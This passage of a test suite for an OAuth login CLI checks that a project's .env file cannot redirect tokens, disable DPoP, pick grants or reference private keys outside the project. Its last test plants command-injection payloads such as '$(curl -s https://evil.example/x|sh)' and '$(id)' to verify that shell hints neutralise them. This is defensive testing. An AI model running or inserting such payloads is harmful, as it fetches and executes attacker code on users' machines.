      { OAUTH_TENANT: "contoso.example", OAUTH_PROVIDER: "entra", OAUTH_CLIENT_ID: "c" },
      { OAUTH_ISSUER: "https://evil.example" },
      { decidedBy: "own", ignored: ["OAUTH_ISSUER"], withheld: [] },
    ],
    [
      "a .env value equal to the person's own is not reported",
      { OAUTH_ISSUER: "https://idp.example", OAUTH_CLIENT_ID: "c" },
      { OAUTH_ISSUER: "https://idp.example/" },
      { decidedBy: "own", ignored: [], withheld: [] },
    ],
    [
      "the person's own destination: the .env's secret and method are not used",
      { OAUTH_ISSUER: "https://idp.example", OAUTH_CLIENT_ID: "c" },
      { OAUTH_CLIENT_SECRET: "s", OAUTH_CLIENT_AUTH: "client_secret_post" },
      { decidedBy: "own", ignored: ["OAUTH_CLIENT_SECRET", "OAUTH_CLIENT_AUTH"], withheld: [] },
    ],
    [
      "nothing names a server: the .env's secret is not used",
      {},
      { OAUTH_CLIENT_SECRET: "s" },
      { decidedBy: "none", ignored: [], withheld: [] },
    ],
  ];
  for (const [name, own, dotenv, expected] of cases) {
    await t.step(name, () => {
      let config;
      try {
        config = resolveConfig(cli, env(own), dotenv);
      } catch {
        config = resolveConfig({ ...cli, flags: { all: true } }, env(own), dotenv);
      }
      const { decidedBy, ignored, withheld } = config.trust!;
      assertEquals({ decidedBy, ignored, withheld }, expected);
      assertEquals(config.clientSecret, undefined, "a .env's secret goes only with its own destination");
      if (dotenv.OAUTH_CLIENT_AUTH) assertEquals(config.clientAuth, undefined);
    });
  }
});

// ── A .env turns no protection off (red team, finding 7) ───────────────────────────────────────

Deno.test("a .env cannot turn off DPoP that the person's profile or environment turns on", async (t) => {
  const cli = { command: "login" as const, named: true, flags: {} };
  const profile = {
    name: "work",
    path: "/home/alice/.config/oauth-login/config.toml",
    chosenBy: "default_profile",
    flags: { issuer: "https://idp.example.com", "client-id": "cli", dpop: true },
  };
  await t.step("resolveConfig() keeps the profile's dpop = true over the .env's OAUTH_DPOP=0", () => {
    const config = resolveConfig(cli, () => undefined, { OAUTH_DPOP: "0" }, profile);
    assertEquals({ dpop: config.dpop, from: config.sources.dpop }, { dpop: true, from: "profile" });
    assertEquals(config.trust!.kept, [{ name: "OAUTH_DPOP", by: 'dpop in the profile "work"' }]);
    // Turning it on is the .env's to do; and where nothing of the person's turns it on, off is the .env's too.
    const on = resolveConfig(cli, () => undefined, { OAUTH_DPOP: "1" }, {
      ...profile,
      flags: { ...profile.flags, dpop: false },
    });
    assertEquals({ dpop: on.dpop, kept: on.trust!.kept }, { dpop: true, kept: [] });
    const plain = resolveConfig(cli, () => undefined, { OAUTH_DPOP: "0" }, {
      ...profile,
      flags: { issuer: "https://idp.example.com", "client-id": "cli" },
    });
    assertEquals({ dpop: plain.dpop, kept: plain.trust!.kept }, { dpop: false, kept: [] });
  });
  await t.step("the login is DPoP-bound, and says the .env's OAUTH_DPOP was ignored", async () => {
    await withMock(async (real) => {
      const home = await homeWith(
        `default_profile = "work"\n[work]\nissuer = "${real.issuer}"\nclient_id = "${PUBLIC_CLIENT.id}"\ndpop = true\n`,
      );
      real.metadata.dpop_signing_alg_values_supported = ["ES256"]; // a server that offers DPoP
      const login = await run(["login"], inRepo({ OAUTH_DPOP: "0" }, { home, browser: scriptedBrowser }));
      const token = real.requests.filter((r) => r.path === "/token");
      assertEquals(
        token.map((r) => typeof r.headers.dpop),
        ["string"],
        `the token request carries a DPoP proof: ${login.stderr}`,
      );
      assertStringIncludes(
        login.stderr,
        `warning: Ignoring OAUTH_DPOP in ${ENV_FILE}: a project file cannot turn off DPoP, which dpop in the profile "work" turns on\n`,
      );
      await cleanUp(login);
    });
  });
  await t.step("the environment's OAUTH_DPOP=1 is kept too, and doctor says so", async () => {
    const doctor = await run(
      ["doctor", "--issuer", "https://idp.example.com", "--client-id", "c"],
      inRepo({ OAUTH_DPOP: "0" }, { env: { OAUTH_DPOP: "1" }, fetch: () => Promise.reject(new Error("offline")) }),
    );
    assertStringIncludes(
      doctor.stdout,
      `warn  config     Ignoring OAUTH_DPOP in ${ENV_FILE}: a project file cannot turn off DPoP, which OAUTH_DPOP in the environment turns on\n`,
    );
    await cleanUp(doctor);
  });
});

// ── A .env chooses no grant for the person's own client (outsider attack 2, finding 1) ─────────

Deno.test("a .env cannot choose the grant the person's own client and secret are used for: token and exec sign no service token in", async (t) => {
  const project = { OAUTH_GRANT: "client_credentials", OAUTH_SCOPE: "admin" };
  const expected = (issuer: string) =>
    ignoring("OAUTH_GRANT", "OAUTH_ISSUER in the environment", true) +
    `error: No cached token for ${issuer}\n` +
    'hint: run "oauth-login login" (or pass --interactive to let this command sign you in)\n';
  await t.step("token", async () => {
    await withMock(async (mock) => {
      const result = await run(["token"], inRepo(project, { env: ownEnv(mock) }));
      assertEquals([result.code, result.stdout, result.stderr], [EXIT.loginRequired, "", expected(mock.issuer)]);
      assertEquals(mock.requests, [], "the person's secret was used for no grant");
      await cleanUp(result);
    });
  });
  await t.step("exec: the project's program is not run", async () => {
    await withMock(async (mock) => {
      const ran: string[] = [];
      const result = await run(
        ["exec", "--", "./deploy.sh"],
        inRepo(project, { env: ownEnv(mock), runProgram: (command) => Promise.resolve(ran.push(command) && 0) }),
      );
      assertEquals([result.code, result.stderr], [EXIT.loginRequired, expected(mock.issuer)]);
      assertEquals([ran, mock.requests], [[], []]);
      await cleanUp(result);
    });
  });
  await t.step("the grant of a .env that decides the server is its own, with its own client", async () => {
    await withMock(async (mock) => {
      const result = await run(
        ["token"],
        inRepo({
          ...project,
          OAUTH_ISSUER: mock.issuer,
          OAUTH_CLIENT_ID: CONFIDENTIAL_CLIENT.id,
          OAUTH_CLIENT_SECRET: SECRET,
        }),
      );
      assertEquals(result.code, EXIT.ok, result.stderr);
      assertEquals(mock.calls("token").map((r) => [r.form.grant_type, r.form.scope]), [[
        "client_credentials",
        "admin",
      ]]);
      await cleanUp(result);
    });
  });
});

// ── A .env that names a preset, or mixes one with its own server (red team, finding 1) ─────────

const OCTOCAT: MockUser = { sub: "u-1", username: "octocat", email: "octocat@example.com", name: "Octocat" };

/** A well-known public OAuth app (as GitHub CLI's is): the person may have approved it before. */
const WELL_KNOWN_APP: MockClient = {
  id: "well-known-cli-app",
  auth: "none",
  redirectUris: ["http://127.0.0.1/callback"],
};

/** A GitHub stand-in (no discovery, GitHub's paths and dialect), as tests/providers_test.ts has it. */
function github(client: MockClient = WELL_KNOWN_APP): ServedMock {
  return serveMockIssuer({
    user: OCTOCAT,
    clients: [client],
    discovery: "none",
    issParameter: false,
    paths: {
      authorize: "/login/oauth/authorize",
      token: "/login/oauth/access_token",
      device_authorization: "/login/device/code",
      device: "/login/device",
    },
    dialect: { status200Errors: true, scopeSeparator: ",", tokenType: "bearer", omitExpiresIn: true },
    whoAmI: { path: "/user", body: () => ({ login: "octocat", id: 1 }) },
  });
}

/** The real GitHub (github.com is it, through `presetBase`) and a project's server relaying to it. */
async function withGithub(fn: (real: ServedMock, evil: ServedMock) => Promise<void>): Promise<void> {
  const real = github();
  try {
    await withMock(async (evil) => {
      evil.intercept = relayTo(real);
      await fn(real, evil);
    });
  } finally {
    await real.close();
  }
}

const MIXING_HINT = "hint: a project file cannot mix a provider preset's endpoints with an issuer or endpoints of " +
  "its own on another host; if you trust them, pass them as flags\n";

Deno.test("a .env naming the github preset and its own token endpoint is refused before anything is sent", async (t) => {
  await withGithub(async (real, evil) => {
    const dotenv = {
      OAUTH_PROVIDER: "github",
      OAUTH_CLIENT_ID: WELL_KNOWN_APP.id,
      OAUTH_TOKEN_ENDPOINT: `${evil.issuer}/login/oauth/access_token`,
    };
    const refusal = `error: The token endpoint in ${ENV_FILE} is on another host (127.0.0.1:${evil.port}) than ` +
      `the github preset's authorization endpoint (127.0.0.1:${real.port})\n` + MIXING_HINT;
    const presetBase = new URL(real.issuer).origin; // github.com is the real (loopback) GitHub here
    for (
      const [name, env] of [
        ["the browser flow: the code and the verifier would go to the project's server", {}],
        ["over SSH, the device flow: the device code would", {
          DISPLAY: "",
          SSH_CONNECTION: "10.0.0.2 5555 10.0.0.1 22",
        }],
      ] as const
    ) {
      await t.step(name, async () => {
        const login = await run(["login"], inRepo(dotenv, { env, presetBase, browser: scriptedBrowser }));
        assertEquals(login.code, EXIT.usage, login.stderr);
        assertEquals(login.stderr, refusal);
        assertEquals([...real.requests, ...evil.requests], []);
        assertEquals(login.opened, []);
        await cleanUp(login);
      });
    }
    await t.step("doctor shows the refusal", async () => {
      const doctor = await run(["doctor"], inRepo(dotenv, { presetBase }));
      assertStringIncludes(doctor.stdout, `fail  config     ${refusal.slice(7, -1).replace("\nhint: ", " (")})\n`);
      assertEquals(evil.requests, []);
      await cleanUp(doctor);
    });
  });
});

Deno.test("a .env's own authorization endpoint cannot be combined with the github preset's other endpoints", async () => {
  await withGithub(async (real, evil) => {
    const login = await run(
      ["login"],
      inRepo(
        {
          OAUTH_PROVIDER: "github",
          OAUTH_CLIENT_ID: WELL_KNOWN_APP.id,
          OAUTH_AUTHORIZATION_ENDPOINT: `${evil.issuer}/login/oauth/authorize`,
        },
        { presetBase: new URL(real.issuer).origin, browser: scriptedBrowser },
      ),
    );
    assertEquals(login.code, EXIT.usage, login.stderr);
    assertEquals(
      login.stderr,
      `error: The github preset's token endpoint is on another host (127.0.0.1:${real.port}) than the ` +
        `authorization endpoint in ${ENV_FILE} (127.0.0.1:${evil.port})\n` + MIXING_HINT,
    );
    assertEquals([...real.requests, ...evil.requests], []);
    await cleanUp(login);
  });
});

Deno.test("a .env's issuer cannot be combined with the github preset (its tokens would reach the issuer's endpoints)", async () => {
  await withGithub(async (real, evil) => {
    // The project's "issuer" would serve metadata only: the preset's endpoints replace its authorization
    // and token endpoints, and its introspection, revocation and UserInfo endpoints would stay.
    const login = await run(
      ["login"],
      inRepo(
        { OAUTH_ISSUER: evil.issuer, OAUTH_PROVIDER: "github", OAUTH_CLIENT_ID: WELL_KNOWN_APP.id },
        { presetBase: new URL(real.issuer).origin, browser: scriptedBrowser },
      ),
    );
    assertEquals(login.code, EXIT.usage, login.stderr);
    assertEquals(
      login.stderr,
      `error: The issuer in ${ENV_FILE} is on another host (127.0.0.1:${evil.port}) than the github preset's ` +
        `authorization endpoint (127.0.0.1:${real.port})\n` + MIXING_HINT,
    );
    assertEquals([...real.requests, ...evil.requests], []);
    await cleanUp(login);
  });
});

Deno.test("a .env's issuer whose metadata sends the browser to a real provider keeps no endpoint of its own", async (t) => {
  // Each endpoint that receives something, left on the project's server while the browser signs in at the real one.
  const members: [string, string, string][] = [
    ["token_endpoint", "/token", "takes the code at"],
    ["device_authorization_endpoint", "/device_authorization", "takes the device code at"],
    ["pushed_authorization_request_endpoint", "/par", "takes the authorization request at"],
    ["introspection_endpoint", "/introspect", "sends your tokens to"],
    ["revocation_endpoint", "/revoke", "sends your tokens to"],
    ["userinfo_endpoint", "/userinfo", "sends your tokens to"],
  ];
  await withServers(async (real, evil) => {
    for (const [member, path, receives] of members) {
      await t.step(member, async () => {
        for (const [other, otherPath] of members) evil.metadata[other] = `${real.issuer}${otherPath}`;
        evil.metadata.authorization_endpoint = `${real.issuer}/authorize`;
        evil.metadata[member] = `${evil.issuer}${path}`;
        const login = await run(
          ["login"],
          inRepo({ OAUTH_ISSUER: evil.issuer, OAUTH_CLIENT_ID: PUBLIC_CLIENT.id }, { browser: scriptedBrowser }),
        );
        assertEquals(login.code, EXIT.usage, login.stderr);
        assertEquals(
          login.stderr,
          note(evil.issuer) +
            `error: The issuer ${evil.issuer}, from a project file (.env), sends you to 127.0.0.1:${real.port} to sign in but ${receives} 127.0.0.1:${evil.port}\n` +
            "hint: if you trust this server, set OAUTH_ISSUER in the environment or pass --issuer\n",
        );
        assertEquals(real.requests, [], "nothing reached the real provider");
        assertEquals(evil.requests.map((r) => r.path), ["/.well-known/oauth-authorization-server"]);
        evil.requests.length = 0;
        await cleanUp(login);
      });
    }
  }, { relay: false });
});

Deno.test("a preset a .env names is used as a whole, on each of the provider's own hosts (Preset.hosts)", async (t) => {
  await t.step("github, with no issuer: github.com and api.github.com", async () => {
    await withGithub(async (real, evil) => {
      const login = await run(
        ["login"],
        inRepo(
          { OAUTH_PROVIDER: "github", OAUTH_CLIENT_ID: WELL_KNOWN_APP.id },
          { presetBase: new URL(real.issuer).origin, browser: scriptedBrowser },
        ),
      );
      assertEquals(login.code, EXIT.ok, login.stderr);
      assertStringIncludes(login.stderr, "Logged in as octocat\n");
      assertEquals(evil.requests, []);
      await cleanUp(login);
    });
  });
  // Google's real metadata: the browser on accounts.google.com, the code and the tokens on googleapis.com.
  const google = {
    issuer: "https://accounts.google.com",
    authorization_endpoint: "https://accounts.google.com/o/oauth2/v2/auth",
    device_authorization_endpoint: "https://oauth2.googleapis.com/device/code",
    token_endpoint: "https://oauth2.googleapis.com/token",
    userinfo_endpoint: "https://openidconnect.googleapis.com/v1/userinfo",
    revocation_endpoint: "https://oauth2.googleapis.com/revoke",
    jwks_uri: "https://www.googleapis.com/oauth2/v3/certs",
  };
  const cli = { command: "login" as const, named: true, flags: {} };
  for (
    const [name, dotenv] of [
      ["google, named by OAUTH_PROVIDER", { OAUTH_PROVIDER: "google", OAUTH_CLIENT_SECRET: "s" }],
      ["google, named by its issuer (the preset inferred)", {
        OAUTH_ISSUER: "https://accounts.google.com",
        OAUTH_CLIENT_SECRET: "s",
      }],
    ] as const
  ) {
    await t.step(name, () => {
      const config = resolveConfig(cli, () => undefined, { ...dotenv, OAUTH_CLIENT_ID: "c" });
      assertEquals({ decidedBy: config.trust!.decidedBy, provider: config.provider }, {
        decidedBy: ".env",
        provider: "google",
      });
      testing.checkProjectMetadata(google as never, config);
      // Any host that is not Google's is refused, the token endpoint's as the UserInfo endpoint's.
      for (const member of ["token_endpoint", "userinfo_endpoint"]) {
        let refused = "";
        try {
          testing.checkProjectMetadata(
            { ...google, [member]: "https://oauth2.googleapis.com.evil.example/x" } as never,
            config,
          );
        } catch (error) {
          refused = (error as Error).message;
        }
        assertStringIncludes(refused, "oauth2.googleapis.com.evil.example");
      }
    });
  }
});

// ── A .env's client key is the project's own (red team, finding 8) ─────────────────────────────

Deno.test("a .env's client key must be in the .env's own folder: not elsewhere, not through .. or a link", async (t) => {
  // The person's own private key (mkcert's rootCA-key.pem is PKCS#8 and owner-only, like this one), outside the project.
  const home = await Deno.makeTempDir({ prefix: "oauth-login-trust-home-" });
  const project = await Deno.makeTempDir({ prefix: "oauth-login-trust-project-" });
  try {
    const own = await clientKeyFile(home);
    await Deno.mkdir(`${project}/keys`);
    await Deno.symlink(own, `${project}/keys/link.pem`);
    const projectKey = await clientKeyFile(`${project}/keys`);
    const envFile = `"${project}/.env"`;
    const refused = (value: string, why: string) =>
      `error: The client key "${value}" in ${envFile} ${why}\n` +
      "hint: a project file may only name a key in its own folder; for a key of yours, pass --client-key or set OAUTH_CLIENT_KEY in the environment\n";
    const cases: [string, string, string][] = [
      ["an absolute path outside the project", own, `is outside the project's folder (${project})`],
      [
        "a relative path through ..",
        `keys/../../${own.split("/").slice(-2).join("/")}`,
        `is outside the project's folder (${project})`,
      ],
      [
        "a link in the project to a key outside it",
        "keys/link.pem",
        "is a link to a file outside the project's folder",
      ],
    ];
    for (const [name, value, why] of cases) {
      await t.step(name, async () => {
        await withMock(async (evil) => {
          evil.clients.push({ id: "proj", auth: "none", redirectUris: ["http://127.0.0.1/callback"] });
          const dotenv = { OAUTH_ISSUER: evil.issuer, OAUTH_CLIENT_ID: "proj", OAUTH_CLIENT_KEY: value };
          const login = await run(["login"], { cwd: project, files: { ".env": dotenv }, browser: scriptedBrowser });
          const shown = why.startsWith("is a link") ? `${project}/${value}` : value;
          assertEquals(evil.requests, [], "nothing reached the project's server");
          assertEquals(login.code, EXIT.usage, login.stderr);
          assertEquals(login.stderr, refused(shown, why));
          await cleanUp(login);
          const doctor = await run(["doctor"], { cwd: project, files: { ".env": dotenv } });
          assertStringIncludes(
            doctor.stdout,
            `fail  config     ${refused(shown, why).slice(7, -1).replace("\nhint: ", " (")})\n`,
          );
          await cleanUp(doctor);
        });
      });
    }
    await t.step("a key in the project's folder, named relative to it, signs for the project's server", async () => {
      await withMock(async (evil) => {
        evil.clients.push({ id: "proj", auth: "none", redirectUris: ["http://127.0.0.1/callback"] });
        const dotenv = { OAUTH_ISSUER: evil.issuer, OAUTH_CLIENT_ID: "proj", OAUTH_CLIENT_KEY: "keys/client.pem" };
        assertEquals(projectKey, `${project}/keys/client.pem`);
        const login = await run(["login"], { cwd: project, files: { ".env": dotenv }, browser: scriptedBrowser });
        assertEquals(login.code, EXIT.ok, login.stderr);
        assertEquals(evil.calls("token").map((r) => typeof r.form.client_assertion), ["string"]);
        await cleanUp(login);
      });
    });
  } finally {
    await Deno.remove(home, { recursive: true });
    await Deno.remove(project, { recursive: true });
  }
});

// ── A hint to paste into a shell runs nothing (red team, finding 11) ───────────────────────────

Deno.test("login.ts puts no value into a suggested command but through shellWord, except fixed names and numbers", async () => {
  const source = await Deno.readTextFile(new URL("../login.ts", import.meta.url));
  // `--flag ${…}` or `--flag=${…}`, the value not shellWord(…): each is a fixed name or a number, listed here.
  const fixed = [
    "--client-auth ${other}", // one of CLIENT_AUTH_METHODS
    "--allow-run=${program}", // a permission message naming the program this tool runs
    "--allow-run=${tool}", // the keychain tool's fixed name
    "--label=${label}", // an argument of secret-tool, not a hint
    '--grant ${grants.join(" or ")}', // grant names, in a message
    "--grant ${grant}", // a grant name, in a message
    "--max-age ${", // a number of seconds
  ];
  const unquoted = [...source.matchAll(/--[a-z-]+[ =]\$\{(?!\s*shellWord\()[^}]*\}?/g)].map((m) => m[0])
    .filter((text) => !fixed.some((ok) => text.startsWith(ok)));
  assertEquals(unquoted, [], "a value in a suggested command that is not one shell word");
});

/**
 * The shell word right after `prefix` in `text`, read as a POSIX shell reads it: characters no shell
 * acts on, or a single-quoted string (`'\''` for a quote inside); undefined when it is neither.
 */
function shellWordAfter(text: string, prefix: string): string | undefined {
  const at = text.indexOf(prefix);
  if (at < 0) return undefined;
  const rest = text.slice(at + prefix.length);
  const quoted = rest.match(/^'[^']*'(?:\\''[^']*')*/)?.[0];
  if (quoted) return quoted.slice(1, -1).replaceAll("'\\''", "'");
  return rest.match(/^[\w.:/@%+=,-]+/)?.[0];
}

Deno.test("every value in a hint's command is one shell word, wherever it came from (a server, a .env, a path)", async (t) => {
  const payload = "$(curl -s https://evil.example/x|sh)";
  const inPath = "$(curl -s evil.example|sh)"; // a file name holds no slash
  const home = await homeWith();
  try {
    const cases: [string, () => Promise<{ stderr: string }>, string, string][] = [];
    // Each case: what to run, the prefix of the command in its hint, and the value the shell must read.
    await t.step("a server's issuer in the --issuer of an issuer mismatch", async () => {
      await withMock(async (mock) => {
        const said = `${mock.issuer}/${payload}`;
        mock.metadata.issuer = said;
        const result = await run(["login", "--issuer", mock.issuer, "--client-id", PUBLIC_CLIENT.id]);
        assertEquals(result.code, EXIT.usage, result.stderr);
        assertEquals(shellWordAfter(result.stderr, "use --issuer "), said, result.stderr);
        await cleanUp(result);
      });
    });
    const key = `${home}/k ${inPath}.pem`;
    await Deno.writeTextFile(key, "-----BEGIN PRIVATE KEY-----\n-----END PRIVATE KEY-----\n", { mode: 0o640 });
    await Deno.chmod(key, 0o640);
    const cache = `${home}/cache ${inPath}`;
    await Deno.mkdir(cache, { mode: 0o777 });
    await Deno.chmod(cache, 0o777);
    cases.push(
      [
        "a .env's token endpoint in --save-profile's hint",
        () =>
          run(
            ["login", "--save-profile", "p"],
            inRepo({
              OAUTH_TOKEN_ENDPOINT: `https://tokens.example/t/${payload.replaceAll(" ", "")}`,
              OAUTH_CLIENT_ID: "c",
            }, {
              home,
            }),
          ),
        "name it yourself: --token-endpoint ",
        `https://tokens.example/t/${payload.replaceAll(" ", "")}`,
      ],
      [
        "a client key's path in chmod",
        () => run(["login", "--issuer", "https://idp.example", "--client-id", "c"], { env: { OAUTH_CLIENT_KEY: key } }),
        "chmod 600 ",
        key,
      ],
      [
        "the cache folder's path in chmod",
        () =>
          run(["login", "--issuer", "https://idp.example", "--client-id", "c"], { storage: () => fileStorage(cache) }),
        "chmod 700 ",
        cache,
      ],
      [
        "an API's origin in --resource",
        () =>
          run([
            "fetch",
            "--issuer",
            "https://idp.example",
            "--client-id",
            "c",
            "--resource",
            "https://api.example/",
            "https://a$(id).example/",
          ]),
        "add --resource ",
        "https://a$(id).example",
      ],
      [
        "an issuer with a query, in the --issuer to use instead",
        () => run(["login", "--issuer", `https://idp.example/$(id)?x=1`, "--client-id", "c"]),
        "e.g. --issuer ",
        "https://idp.example/$(id)",
      ],
      [
        "a value that starts with -, in --scope=",
        () => run(["login", "--issuer", "https://idp.example", "--client-id", "c", "--scope", "-$(id)"]),
        "write --scope=",
        "-$(id)",
      ],
    );
    const pastedIss = `https://evil.example/ ${payload}`;
    cases.push([
      "a pasted callback address's iss (the server's choice) in the --issuer to use",
      () =>
        run([
          "login",
          "--issuer",
          `https://idp.example/callback?code=abc&state=xyz&iss=${encodeURIComponent(pastedIss)}`,
          "--client-id",
          "c",
        ]),
      "(iss): use --issuer ",
      new URL(pastedIss).href,
    ]);
    await t.step("the server an API's metadata named, in the --issuer of the no-client hint", async () => {
      const mock = serveMockIssuer({ path: `/t${payload.replaceAll(" ", "")}`, registration: false });
      const api = serveResourceServer({ authorizationServers: [mock.issuer], verify: () => undefined });
      try {
        const result = await run(["fetch", api.url], { browser: scriptedBrowser, interactive: true });
        assertEquals(result.code, EXIT.usage, result.stderr);
        assertEquals(shellWordAfter(result.stderr, "keep it in a profile with --issuer "), mock.issuer, result.stderr);
        await cleanUp(result);
      } finally {
        await api.close();
        await mock.close();
      }
    });
    for (const [name, go, prefix, value] of cases) {
      await t.step(name, async () => {
        const result = await go();
        const hint = result.stderr.split("\n").find((line) => line.startsWith("hint:")) ?? "";
        assertEquals(shellWordAfter(hint, prefix), value, result.stderr);
        if ("home" in result && result.home !== home) await cleanUp(result as Awaited<ReturnType<typeof run>>);
      });
    }
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});
